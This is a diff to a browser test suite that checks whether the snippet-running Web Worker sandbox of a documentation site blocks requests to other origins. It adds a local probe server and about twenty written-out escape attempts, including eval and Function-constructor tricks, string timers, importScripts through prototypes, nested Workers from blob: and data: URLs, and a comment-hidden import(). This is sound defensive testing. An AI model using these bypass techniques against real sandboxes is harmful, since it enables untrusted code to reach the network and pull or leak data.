@@ -2,15 +2,21 @@
  * Runnable snippets in Chromium (issues 5 and 7), against the built site: every snippet run in
  * the reader's worker prints exactly what the build printed; a keyboard-only edit runs and
  * matches Node; hostile snippets are contained (the worker killed or the error shown, the page
- * responsive and unchanged outside the snippet's output); Reset; permalinks; the CSP holds (no
- * violation, eval still blocked in the page) and nothing heavy loads before it is needed.
+ * responsive and unchanged outside the snippet's output); reader code cannot reach another
+ * origin (issue 16: every way to evaluate a string with an import() in it, aimed at a real server
+ * on another port, ends in its clear error with no request, the test server sending no CSP
+ * header); Reset; permalinks; the CSP holds (no violation, eval still blocked in the page) and
+ * nothing heavy loads before it is needed.
  */
 import { readFileSync } from 'node:fs';
-import type { BrowserContext, Page } from 'playwright-core';
-import { describe, expect, it } from 'vitest';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { BrowserContext, Page, Worker } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { BUILTIN_SCENARIO_NAMES } from '@realmfault/model';
+import { NO_EVAL } from '../../src/snippets/harden';
 import { runSnippetInNode } from '../../src/snippets/node';
-import { formatRun, SNIPPET_LIMITS } from '../../src/snippets/runtime';
+import { DYNAMIC_IMPORT_MESSAGE, formatRun, SNIPPET_LIMITS } from '../../src/snippets/runtime';
 import { baseURL, openPage, sitemapPaths, useBrowser, type WatchedPage } from './browser.js';
 
 const { browser } = useBrowser();
@@ -53,6 +59,55 @@ if (!FIRST)
 const HOST: SiteSnippet = FIRST;
 
 const nodeText = (code: string): string => formatRun(runSnippetInNode(code));
+
+/**
+ * A real server on another origin (127.0.0.1, another free port) that the network probes aim
+ * at: it answers every request with a JavaScript module that any origin may load, and records
+ * the path, so a probe that got a request out is counted whether the browser reports it or not.
+ */
+async function listenProbe(): Promise<{ origin: string; hits: string[]; close: () => Promise<void> }> {
+  const hits: string[] = [];
+  const server = createServer((req, res) => {
+    hits.push(req.url ?? '?');
+    res.writeHead(200, {
+      'content-type': 'text/javascript; charset=utf-8',
+      'access-control-allow-origin': '*',
+      'cache-control': 'no-store',
+    });
+    res.end('export default "pwned";\n');
+  });
+  await new Promise<void>((ok, fail) => {
+    server.once('error', fail);
+    server.listen(0, '127.0.0.1', ok);
+  });
+  const { port } = server.address() as AddressInfo;
+  return {
+    origin: `http://127.0.0.1:${port}`,
+    hits,
+    close: () =>
+      new Promise<void>((done) => {
+        server.close(() => {
+          done();
+        });
+      }),
+  };
+}
+const probe = await listenProbe();
+afterAll(probe.close);
+/** A module URL on the probe server, named after the probe that requests it. */
+const probeURL = (name: string): string => `${probe.origin}/${name}.js`;
+/**
+ * A string expression whose value is `import('<url>')`, built so that the snippet's own text
+ * never contains "import(" (which the runtime refuses outright): only the worker's hardening
+ * stands between these probes and the network.
+ */
+const importCode = (name: string): string => `'imp' + "ort('${probeURL(name)}')"`;
+
+/** The requests the page and its workers made to anything but the site (data: URLs are local). */
+const offsite = (requests: readonly string[]): string[] => {
+  const site = new URL(baseURL()).origin;
+  return requests.filter((u) => !u.startsWith('data:') && new URL(u).origin !== site);
+};
 const TIMEOUT_TEXT = `✗ the snippet ran longer than ${SNIPPET_LIMITS.timeoutMs} ms and was stopped`;
 
 declare global {
@@ -333,6 +388,8 @@ describe('snippets run in the browser', () => {
 interface Hostile {
   name: string;
   code: string;
+  /** The build (Node) reports exactly this text too. */
+  sameAsNode?: boolean;
   /** Checks the output area's text. */
   expectText: (text: string) => void;
   /** The problem line, when one is shown. */
@@ -470,6 +527,256 @@ const HOSTILE: Hostile[] = [
   },
 ];
 
+/**
+ * Issue 16: every way of getting code from a string evaluated (where an `import()` would load
+ * from the network) and of starting a request behind the blocked globals' backs, each aimed at
+ * the probe server on another origin. Each must end with its clear error and no request.
+ */
+function networkProbes(): Hostile[] {
+  const notAvailable = (what: string, why: string, line: number): Hostile['expectText'] => {
+    return (t) => {
+      expect(t).toBe(`✗ Error: ${what} is not available: ${why} (line ${line})`);
+    };
+  };
+  const refused = (line: number): Hostile['expectText'] => {
+    return (t) => {
+      expect(t).toBe(`✗ ${DYNAMIC_IMPORT_MESSAGE} (line ${line})`);
+    };
+  };
+  const workers = 'snippets cannot start other workers';
+  const network = 'snippets run in a Web Worker without network access';
+  const stringTimer = `${NO_EVAL} (pass a function)`;
+  const imports = 'snippets can import only "@realmfault/model"';
+  return [
+    {
+      name: "indirect eval of an import() (the issue's probe; refused by its text)",
+      code: `(0, eval)("import('${probeURL('eval-indirect-text')}')");`,
+      expectText: refused(1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'indirect eval of an import() built from pieces',
+      code: `console.log('start');\n(0, eval)(${importCode('eval-indirect')});`,
+      expectText: (t) => {
+        expect(t).toBe(`start\n✗ Error: eval is not available: ${NO_EVAL} (line 2)`);
+      },
+      line: 2,
+      sameAsNode: true,
+    },
+    {
+      name: 'direct eval',
+      code: `const code = ${importCode('eval-direct')};\neval(code);`,
+      expectText: notAvailable('eval', NO_EVAL, 2),
+      line: 2,
+      sameAsNode: true,
+    },
+    {
+      name: 'eval from the global object',
+      code: `globalThis['ev' + 'al'](${importCode('eval-global')});`,
+      expectText: notAvailable('eval', NO_EVAL, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'Function("return import(…)")()',
+      code: `Function('return ' + ${importCode('function')})();`,
+      expectText: notAvailable('Function', NO_EVAL, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'the Function constructor of an arrow function',
+      code: `const F = (() => 0).constructor;\nF('return ' + ${importCode('arrow-constructor')})();`,
+      expectText: notAvailable('Function', NO_EVAL, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'the AsyncFunction constructor from a prototype',
+      code: `const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;\nvoid new AsyncFunction('await ' + ${importCode('async-function')})();`,
+      expectText: notAvailable('AsyncFunction', NO_EVAL, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'the GeneratorFunction constructor from a prototype',
+      code: `const GeneratorFunction = Object.getPrototypeOf(function* () {}).constructor;\nGeneratorFunction('yield ' + ${importCode('generator-function')})().next();`,
+      expectText: notAvailable('GeneratorFunction', NO_EVAL, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'the AsyncGeneratorFunction constructor from a prototype',
+      code: `const proto = Object.getPrototypeOf(async function* () {});\nvoid proto.constructor('yield ' + ${importCode('async-generator-function')})().next();`,
+      expectText: notAvailable('AsyncGeneratorFunction', NO_EVAL, 2),
+      line: 2,
+      sameAsNode: true,
+    },
+    {
+      name: 'Reflect.construct(Function, …)',
+      code: `const f = Reflect.construct(Function, ['return ' + ${importCode('reflect-construct')}]);\nf();`,
+      expectText: notAvailable('Function', NO_EVAL, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'setTimeout with a string',
+      code: `setTimeout(${importCode('set-timeout')}, 0);`,
+      expectText: notAvailable('setTimeout with a string', stringTimer, 1),
+      line: 1,
+    },
+    {
+      name: "setTimeout with a string, from WorkerGlobalScope's prototype",
+      code: `const { setTimeout: later } = WorkerGlobalScope.prototype;\nlater.call(globalThis, ${importCode('set-timeout-prototype')}, 0);`,
+      expectText: notAvailable('setTimeout with a string', stringTimer, 2),
+      line: 2,
+    },
+    {
+      name: 'setInterval with a string',
+      code: `console.log('x');\nsetInterval(${importCode('set-interval')}, 10);`,
+      expectText: (t) => {
+        expect(t).toBe(`x\n✗ Error: setInterval with a string is not available: ${stringTimer} (line 2)`);
+      },
+      line: 2,
+    },
+    {
+      name: "importScripts from the global scope's prototypes",
+      code: `const wgs = Object.getPrototypeOf(Object.getPrototypeOf(self));\nwgs.importScripts.call(self, '${probeURL('import-scripts-chain')}');`,
+      expectText: notAvailable('importScripts', imports, 2),
+      line: 2,
+    },
+    {
+      name: 'WorkerGlobalScope.prototype.importScripts.call(self, …)',
+      code: `WorkerGlobalScope.prototype.importScripts.call(self, '${probeURL('import-scripts-prototype')}');`,
+      expectText: notAvailable('importScripts', imports, 1),
+      line: 1,
+    },
+    {
+      name: 'a nested Worker from a blob: URL',
+      code: `const blob = new Blob([${importCode('worker-blob')}], { type: 'text/javascript' });\nnew Worker(URL.createObjectURL(blob), { type: 'module' });`,
+      expectText: notAvailable('Worker', workers, 2),
+      line: 2,
+    },
+    {
+      name: 'a nested Worker from a data: URL',
+      code: `new Worker('data:text/javascript,' + encodeURIComponent(${importCode('worker-data')}), { type: 'module' });`,
+      expectText: notAvailable('Worker', workers, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'a SharedWorker from a data: URL',
+      code: `new SharedWorker('data:text/javascript,' + encodeURIComponent(${importCode('shared-worker')}));`,
+      expectText: notAvailable('SharedWorker', workers, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'a FontFace loading its url() from another origin',
+      code: `void new FontFace('probe', 'url(${probeURL('font-face')})').load();`,
+      expectText: notAvailable('FontFace', network, 1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'import() written in the snippet',
+      code: `void import('${probeURL('import-direct')}');`,
+      expectText: refused(1),
+      line: 1,
+      sameAsNode: true,
+    },
+    {
+      name: 'import() hidden from the type stripper behind an HTML-like comment',
+      code: `const a = 1;\na <!-- \`\nvoid import('${probeURL('import-html-comment')}');\n<!-- \`;`,
+      expectText: refused(3),
+      line: 3,
+      sameAsNode: true,
+    },
+  ];
+}
+
+describe('the network probes can see a request leave', () => {
+  it('the probe server counts it and the request log shows it, from the page and from a worker', async () => {
+    const { page, requests } = await open(HOST.path);
+    await hydrate(page, HOST.id);
+    probe.hits.length = 0;
+    // A spare snippet worker, not yet hardened (it has run no reader code): the same import()
+    // from an eval'd string that the probes try reaches the other origin from here, as the
+    // snippets' worker is served with no header that would stop it.
+    const started = new Promise<Worker>((resolve) => {
+      page.once('worker', resolve);
+    });
+    await control(page, HOST.id, 'run').hover();
+    const worker = await started;
+    const reached = await worker.evaluate(async (url) => {
+      // Called by another name: an indirect eval, as in the issue's probe.
+      const load = globalThis.eval as (code: string) => Promise<unknown>;
+      return load(`import(${JSON.stringify(url)})`).then(
+        () => 'loaded',
+        (e: unknown) => `failed: ${String(e)}`,
+      );
+    }, probeURL('control-worker'));
+    expect(
+      reached,
+      'the control assumes the snippet worker is served without a CSP header, as GitHub Pages serves it',
+    ).toBe('loaded');
+    await page.goto(`${probe.origin}/control-page`);
+    // (Chromium asks the new origin for its favicon too.)
+    const seen = (list: readonly string[]) => list.filter((u) => !u.endsWith('/favicon.ico'));
+    expect(seen(probe.hits)).toEqual(['/control-worker.js', '/control-page']);
+    expect(seen(offsite(requests))).toEqual([probeURL('control-worker'), `${probe.origin}/control-page`]);
+    await page.context().close();
+  });
+});
+
+describe('reader code cannot reach another origin (issue 16)', () => {
+  // One page for all the probes, run one after the other as a reader would: each run gets a
+  // fresh worker, and the request log covers the page and every worker it started.
+  let session: Awaited<ReturnType<typeof open>> | undefined;
+  const current = (): Awaited<ReturnType<typeof open>> => {
+    if (!session) throw new Error('the probe page did not open (beforeAll failed?)');
+    return session;
+  };
+  beforeAll(async () => {
+    session = await open(HOST.path);
+    await hydrate(session.page, HOST.id);
+  });
+  afterAll(async () => {
+    await session?.page.context().close();
+  });
+
+  it.each(networkProbes().map((h) => [h.name, h] as const))('%s', async (_name, h) => {
+    const { page, requests } = current();
+    probe.hits.length = 0;
+    await setCode(page, HOST.id, h.code);
+    await run(page, HOST.id);
+    const text = await outputText(page, HOST.id);
+    h.expectText(text);
+    if (h.sameAsNode) expect(text).toBe(nodeText(h.code));
+    expect(await statusText(page, HOST.id)).toMatch(/^Ran your edited code: stopped: /);
+    const marked = await root(page, HOST.id)
+      .locator('.cm-line')
+      .evaluateAll((ls) => ls.flatMap((l, i) => (l.classList.contains('rf-cm-problem') ? [i + 1] : [])));
+    expect(marked).toEqual(h.line === undefined ? [] : [h.line]);
+    // Nothing left the site's origin since the page opened (so a late request from an earlier
+    // probe fails the next one), and nothing reached the probe server during this one.
+    expect(offsite(requests)).toEqual([]);
+    expect(probe.hits).toEqual([]);
+  });
+
+  it('an ordinary snippet still runs as the build ran it after all the probes, with nothing off-site', async () => {
+    const { page, problems, requests } = current();
+    probe.hits.length = 0;
+    await setCode(page, HOST.id, HOST.code);
+    await run(page, HOST.id);
+    expect(await outputText(page, HOST.id)).toBe(nodeText(HOST.code));
+    expect(offsite(requests)).toEqual([]);
+    expect(probe.hits).toEqual([]);
+    await expectClean(page, problems);
+  });
+});
+
 describe('hostile snippets are contained', () => {
   it.each(HOSTILE.map((h) => [h.name, h] as const))('%s', async (_name, h) => {
     const { page, problems, workers, requests } = await open(HOST.path);
@@ -511,6 +818,8 @@ describe('hostile snippets are contained', () => {
     await setCode(page, HOST.id, "console.log('after');");
     await run(page, HOST.id);
     expect(await outputText(page, HOST.id)).toBe('after');
+    // Nothing left the site's origin, from the page or any worker, in all that time.
+    expect(offsite(requests)).toEqual([]);
     await expectClean(page, problems);
     await page.context().close();
   });
